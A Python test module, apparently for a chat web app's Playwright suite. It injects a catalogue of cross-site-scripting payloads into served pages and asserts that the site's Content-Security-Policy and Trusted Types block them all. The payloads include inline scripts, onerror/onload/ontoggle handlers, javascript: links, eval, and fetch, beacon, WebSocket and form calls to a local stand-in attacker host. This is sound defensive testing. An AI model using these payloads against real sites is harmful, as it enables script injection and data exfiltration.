"""Pages that are spoiled on their way to a browser, and the other site that they try to reach."""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from types import SimpleNamespace
from typing import Any, ClassVar

from playwright.sync_api import Browser, BrowserContext, Page
from starlette.applications import Starlette
from starlette.routing import BaseRoute, Match, Route

from tests.chat_browser import Huis
from tests.chat_stub import StubRouter

#: Put at the begin of the head, and at the begin of what a page shows. ELDERS: another site; each
#: thing asks it for its own name, or leaves its name in `kwaad`.
KOP = """<base href="ELDERS/basis/">
<script>kwaad.push("inline")</script>
<script src="ELDERS/script"></script>
<link rel="stylesheet" href="ELDERS/stijlblad">
<link rel="preload" as="image" href="ELDERS/preload">
<link rel="prefetch" href="ELDERS/prefetch">
<link rel="modulepreload" href="ELDERS/modulepreload">
<style>#kwaad { letter-spacing: 99px; background: url(ELDERS/stijl) }</style>
"""
LIJF = """<p id="kwaad" style="text-indent: 99px">x</p>
<img src="ELDERS/plaatje" alt=""><img srcset="ELDERS/srcset 1x" alt=""><img src="relatief" alt="">
<img src="x:" onerror="kwaad.push('onerror')" alt=""><svg onload="kwaad.push('onload')"></svg>
<details open ontoggle="kwaad.push('ontoggle')"></details>
<video src="ELDERS/video" poster="ELDERS/poster"></video><audio src="ELDERS/geluid"></audio>
<iframe src="ELDERS/kader"></iframe><object data="ELDERS/ding"></object><embed src="ELDERS/embed">
<iframe srcdoc="&lt;script&gt;parent.kwaad.push('srcdoc')&lt;/script&gt;"></iframe>
<a id="kwaad-adres" href="javascript:kwaad.push('adres')">x</a>
<iframe name="doel"></iframe><iframe name="doel2"></iframe>
<form id="kwaad-post" method="post" action="ELDERS/formulier" target="doel"></form>
<form id="kwaad-get" action="/gezond" target="doel2">
<button formaction="ELDERS/knop">x</button></form>
"""
#: What somebody would do who did get a script in: each line gives the name of its error.
SCRIPT = """ELDERS => {
  const een = id => document.getElementById(id), p = document.createElement('p');
  const probeer = doe => { try { doe(); return 'did it'; } catch (fout) { return fout.name; } };
  const gezegd = {
    html: probeer(() => { p.innerHTML = '<b>x</b>'; }),
    blad: probeer(() => { document.createElement('iframe').srcdoc = 'x'; }),
    bron: probeer(() => { document.createElement('script').src = ELDERS; }),
    klok: probeer(() => { setTimeout("kwaad.push('klok')"); }),
    beleid: probeer(() => { trustedTypes.createPolicy('kwaad', { createHTML: t => t }); }),
  };
  setTimeout(() => eval("kwaad.push('eval')"));
  fetch(ELDERS + '/fetch', { mode: 'no-cors' }).catch(() => 0);
  navigator.sendBeacon(ELDERS + '/baken', 'x');
  new EventSource(ELDERS + '/bron');
  probeer(() => new WebSocket(ELDERS.replace('http', 'ws') + '/draad'));
  een('kwaad-adres').click();
  een('kwaad-get').querySelector('button').click();
  een('kwaad-post').submit();
  const stijl = getComputedStyle(een('kwaad'));
  gezegd.stijl = stijl.letterSpacing + ' ' + stijl.textIndent;
  return gezegd;
}"""
GEWEERD = {
    "html": "TypeError", "blad": "TypeError", "bron": "TypeError", "klok": "TypeError",
    "beleid": "TypeError", "stijl": "normal 0px",
}  # fmt: skip
#: Each rule of the policy that the browser must say it held, on every page.
REGELS = {
    "base-uri", "connect-src", "default-src", "form-action", "frame-src", "img-src", "media-src",
    "object-src", "require-trusted-types-for", "script-src-attr", "script-src-elem",
    "style-src-attr", "style-src-elem", "trusted-types",
}  # fmt: skip
#: What of it works on a page without our policy.
WERKT = {
    "inline", "script", "onerror", "onload", "ontoggle", "srcdoc", "adres", "klok", "eval",
    "stijlblad", "preload", "prefetch", "modulepreload", "stijl", "plaatje", "srcset",
    "basis/relatief", "video", "poster", "geluid", "kader", "ding", "embed", "fetch", "baken",
    "bron", "draad", "formulier", "knop",
}  # fmt: skip
LUISTER = """window.kwaad = []; window.regels = [];
document.addEventListener('securitypolicyviolation', e => regels.push(e.effectiveDirective));"""


class Elders(http.server.ThreadingHTTPServer):
    """Another site: notes what is asked of it. With status 204 whoever goes there stays."""

    daemon_threads = True

    def __init__(self, status: int = 200) -> None:
        super().__init__(("127.0.0.1", 0), _Antwoord)
        self.status, self.gevraagd = status, set[str]()
        self.url = f"http://127.0.0.1:{self.server_port}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _Antwoord(http.server.BaseHTTPRequestHandler):
    server: Elders
    script: ClassVar[bytes] = b"window.kwaad.push('script')"

    def do_GET(self) -> None:
        self.server.gevraagd.add(self.path.partition("?")[0].strip("/"))
        self.send_response(self.server.status)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(self.script if self.server.status == 200 else b"")

    do_POST = do_GET

    def log_message(self, *_args: Any) -> None:
        pass


@dataclass
class Bederf:
    """An app whose HTML is spoiled after it left: the headers stay, but for the length."""

    app: Any
    kop: str = KOP
    lijf: str = LIJF
    vrij: bool = False
    gezien: set[str] = field(default_factory=set)

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        begin: dict[str, Any] = {}
        stukken: list[bytes] = []

        async def stuur(message: Any) -> None:
            if message["type"] == "http.response.start" and _is_html(message):
                begin.update(message)
            elif not begin:
                await send(message)
            else:
                stukken.append(message.get("body", b""))
                if not message.get("more_body"):
                    await send(self._kop(begin))
                    inhoud = self._bederf(b"".join(stukken).decode()).encode()
                    await send({"type": "http.response.body", "body": inhoud})

        await self.app(scope, receive, stuur)
        if begin:
            self.gezien |= set(_namen(self.app.routes, scope))

    def _kop(self, begin: dict[str, Any]) -> dict[str, Any]:
        weg = {b"content-length", *([b"content-security-policy"] if self.vrij else [])}
        return {**begin, "headers": [(n, w) for n, w in begin["headers"] if n.lower() not in weg]}

    def _bederf(self, html: str) -> str:
        html = re.sub("<head>", lambda m: m[0] + self.kop, html, count=1)
        heel = re.sub("<main[^>]*>", lambda m: m[0] + self.lijf, html, count=1)
        return heel if "<main" in html else self.kop + self.lijf + html


def _is_html(message: Any) -> bool:
    return dict(message["headers"]).get(b"content-type", b"").startswith(b"text/html")


def _namen(routes: list[BaseRoute], scope: Any) -> Iterator[str]:
    """Yield "GET /path/{id}" for the route that answered."""
    for route in routes:
        if isinstance(route, Route) and route.matches(scope)[0] is Match.FULL:
            yield f"{scope['method']} {route.path}"
            return


@dataclass
class Proefhuis:
    """A served app that spoils its pages, a browser in front of it, and the other site."""

    adres: str
    bederf: Bederf
    elders: Elders
    context: BrowserContext

    def pagina(self, pad: str, cookie: tuple[str, str] | None = None) -> Page:
        """Open a page; whoever is *cookie* sees it."""
        self.context.clear_cookies()
        if cookie:
            self.context.add_cookies([{"name": cookie[0], "value": cookie[1], "url": self.adres}])
        page = self.context.pages[0] if self.context.pages else self.context.new_page()
        page.goto(self.adres + pad)
        return page

    def stuur(self, page: Page, pad: str, **velden: str) -> None:
        """Post a form as the page itself would, with the token that stands in it."""
        csrf = page.locator("input[name=csrf]")
        if csrf.count():
            velden["csrf"] = csrf.first.get_attribute("value") or ""
        with page.expect_navigation():
            page.evaluate(
                """([pad, velden]) => {
                    const maak = (naam, wat) => Object.assign(document.createElement(naam), wat);
                    const form = maak('form', { method: 'post', action: pad });
                    Object.entries(velden).forEach(
                      ([name, value]) => form.append(maak('textarea', { name, value })));
                    document.body.append(form);
                    form.submit();
                }""",
                [self.adres + pad, velden],
            )

    def onder_vuur(self, page: Page) -> None:
        """Try everything on the page that is open: the browser held it all, and says so."""
        page.wait_for_load_state()
        assert page.evaluate(SCRIPT, self.elders.url) == GEWEERD, page.url
        for _ in range(200):
            stil = REGELS - set(page.evaluate("regels"))
            if not stil:
                break
            page.wait_for_timeout(50)
        assert page.evaluate("kwaad") == [], page.url
        assert self.elders.gevraagd == set(), page.url
        assert stil == set(), page.url
        assert page.evaluate("origin") == self.adres


@contextmanager
def proefhuis(app: Any, port: int, browser: Browser) -> Iterator[Proefhuis]:
    """Serve *app* spoiled."""
    elders = Elders()
    kop, lijf = (deel.replace("ELDERS", elders.url) for deel in (KOP, LIJF))
    bederf = Bederf(app, kop, lijf)
    server = Huis(StubRouter(), "", "", SimpleNamespace(), Starlette())
    server.start(bederf, port)
    context = browser.new_context()
    context.set_default_timeout(15000)
    context.add_init_script(LUISTER)
    yield Proefhuis(f"http://127.0.0.1:{port}", bederf, elders, context)
    context.close()
    server.servers[0].should_exit = True
    elders.shutdown()
